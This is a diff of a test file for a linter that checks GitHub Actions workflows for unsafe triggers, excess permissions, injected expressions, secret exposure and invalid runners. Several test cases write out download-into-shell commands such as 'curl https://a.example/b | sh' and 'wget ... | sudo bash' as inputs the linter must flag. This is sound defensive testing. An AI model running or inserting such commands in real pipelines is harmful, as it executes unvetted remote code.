@@ -7,15 +7,21 @@ const rights = `permissions:
       contents: read
       attestations: write
 `;
+const onEvents = `on:
+  push:
+  schedule:
+    - cron: "17 3 * * *"
+`;
 const good = `name: Sample
-on: push
-permissions: {}
+${onEvents}permissions: {}
 concurrency:
   group: sample
 jobs:
   one:
     runs-on: ubuntu-24.04
     timeout-minutes: 5
+    outputs:
+      needed: \${{ steps.status.outputs.needed }}
     ${rights}    steps:
       - uses: actions/checkout@${commit} # v7.0.1
         with:
@@ -29,7 +35,18 @@ jobs:
         with:
           script: core.info(process.env.TITLE)
       - run: pnpm --filter @keyhole/contract exec vitest run test/one.test.ts
-      - run: node tools/one.mjs status >> "$GITHUB_OUTPUT"
+      - id: status
+        run: node tools/one.mjs status >> "$GITHUB_OUTPUT"
+  two:
+    needs: one
+    if: needs.one.outputs.needed == 'true' && contains(github.ref, vars.NAME)
+    runs-on: \${{ matrix.os }}
+    timeout-minutes: 5
+    strategy:
+      matrix:
+        os: [macos-15, windows-2025]
+    steps:
+      - run: pnpm check
 `;
 
 /** @param {string} text */
@@ -37,14 +54,15 @@ const problemsOf = (text) =>
   workflowProblems(
     new Map([[".github/workflows/sample.yml", text]]),
     ["check"],
-    ["tools/one.mjs", "tools/contract/test/one.test.ts"],
+    ["tools/one.mjs", "tools/contract/test/one.test.ts", ".github/actions/setup/action.yml"],
+    { "sample.yml one": "attestations" },
   );
 
 describe("workflowProblems", () => {
-  it("accepts a good workflow, and those of this repository", () => {
-    expect(problemsOf(good)).toEqual([]);
+  it("accepts a good workflow, and those of this repository", async () => {
+    expect(await problemsOf(good)).toEqual([]);
     expect(readWorkflows().size).toBeGreaterThan(0);
-    expect(workflowProblems(readWorkflows(), rootScripts(), listFiles())).toEqual([]);
+    expect(await workflowProblems(readWorkflows(), rootScripts(), listFiles())).toEqual([]);
   });
 
   it.each([
@@ -59,8 +77,8 @@ describe("workflowProblems", () => {
     ["no concurrency", "concurrency:\n  group: sample\n", "", "concurrency"],
     ["no timeout", "    timeout-minutes: 5\n", "", "timeout"],
     ["credentials that stay", "persist-credentials: false", "fetch-depth: 0", "credentials"],
-    ["an event with the rights of the base", "on: push", "on: pull_request_target", "_target"],
-    ["such an event in a list", "on: push", "on: [push, workflow_run]", "workflow_run"],
+    ["an event with the rights of the base", "  push:", "  pull_request_target:", "_target"],
+    ["such an event in a list", onEvents, "on: [push, workflow_run]\n", "workflow_run"],
     ["an expression in a script", "run: pnpm check", "run: echo ${{ github.ref }}", "expression"],
     ["an expression in JavaScript", "process.env.TITLE", "`${{ inputs.title }}`", "expression"],
     ["a script that doesn't exist", "pnpm check", "pnpm missing", "pnpm missing"],
@@ -80,12 +98,71 @@ describe("workflowProblems", () => {
     ["all secrets in a list", "secrets.TOKEN", "join(secrets.*)", "secret"],
     ["a secret that the run chooses", "secrets.TOKEN", "secrets[github.ref_name]", "secret"],
     ["all secrets", "    timeout-minutes", "    secrets: inherit\n    timeout-minutes", "secret"],
-  ])("reports %s", (_, from, to, problem) => {
+    ["a right that isn't listed", "contents: read", "contents: write", "attestations, contents"],
+    ["a listed right that isn't used", "      attestations: write\n", "", "write nothing"],
+    ["a cache", "actions/github-script@", "actions/cache/restore@", "must not reach"],
+    [
+      "a cache of an action's",
+      "script: core",
+      "cache: pnpm\n          script: core",
+      "must not reach",
+    ],
+    [
+      "a download into a shell",
+      "run: pnpm check",
+      "run: curl https://a.example/b | sh",
+      "download",
+    ],
+    [
+      "a download into a shell, on two lines",
+      "run: pnpm check",
+      "run: |\n          wget -qO- https://a.example/b \\\n            | sudo bash",
+      "download",
+    ],
+    [
+      "a download as a shell's argument",
+      "run: pnpm check",
+      'run: bash -c "$(curl https://a.example/b)"',
+      "download",
+    ],
+    ["an output that no step has", "steps.status", "steps.stat", '"stat"'],
+    ["an output that no job has", "needs.one.outputs.needed", "needs.one.outputs.need", '"need"'],
+    ["a context that doesn't exist", "github.event", "githb.event", '"githb"'],
+    ["a matrix's key that doesn't exist", "matrix.os }}", "matrix.o }}", '"o"'],
+    [
+      "an expression that isn't closed",
+      "contains(github.ref, vars.NAME)",
+      "contains(",
+      "unexpected end",
+    ],
+    ["a time that doesn't exist", "17 3 * * *", "17 25 * * *", "17 25 * * *"],
+    ["a runner that doesn't exist", "ubuntu-24.04", "ubuntu-2404", "ubuntu-2404"],
+    ["a runner of a matrix that doesn't exist", "windows-2025", "windows-2205", "windows-2205"],
+    [
+      "a runner that an entry adds",
+      "os: [",
+      "include: [{ os: mac }]\n        os: [",
+      "runs on mac,",
+    ],
+    ["a runner without its version", "ubuntu-24.04", "ubuntu-latest", "ubuntu-latest"],
+    ["an action that doesn't exist", "actions/setup\n", "actions/set-up\n", "actions/set-up"],
+  ])("reports %s", async (_, from, to, problem) => {
     expect(good).toContain(from);
-    expect(problemsOf(good.replace(from, to)).join("\n")).toContain(problem);
+    expect((await problemsOf(good.replace(from, to))).join("\n")).toContain(problem);
   });
 
-  it("reports what an action of this repository uses and runs", () => {
+  it.each([
+    ["broken YAML", "permissions: {}", "permissions: {"],
+    ["an unknown alias", "permissions: {}", "permissions: *none"],
+    ["a key that is there twice", "permissions: {}", "permissions: {}\npermissions: {}"],
+    ["an empty job", "jobs:\n", "jobs:\n  none:\n"],
+  ])("reports %s in one sentence", async (_, from, to) => {
+    expect(await problemsOf(good.replace(from, to))).toEqual([
+      expect.stringMatching(/^\.github\/workflows\/sample\.yml isn't valid .+\.$/),
+    ]);
+  });
+
+  it("reports what an action of this repository uses and runs", async () => {
     const action = `name: Sample
 description: Sample
 runs:
@@ -95,7 +172,11 @@ runs:
     - shell: bash
       run: echo \${{ inputs.name }}
 `;
-    const problems = workflowProblems(new Map([[".github/actions/a/action.yml", action]]), [], []);
+    const problems = await workflowProblems(
+      new Map([[".github/actions/a/action.yml", action]]),
+      [],
+      [],
+    );
     expect(problems.join("\n")).toMatch(/@v7.*\n.*cache.*\n.*expression/);
   });
 });
